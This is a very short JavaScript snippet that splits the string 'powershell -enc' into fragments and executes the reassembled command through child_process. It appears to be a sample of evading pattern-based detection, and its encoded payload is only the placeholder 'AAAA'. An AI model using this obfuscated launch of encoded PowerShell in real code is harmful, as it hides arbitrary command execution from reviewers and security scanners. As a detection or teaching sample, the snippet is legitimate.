const parts = ['po', 'wer', 'shell -e', 'nc AAAA'];
require('child_process').exec(parts.join(''));
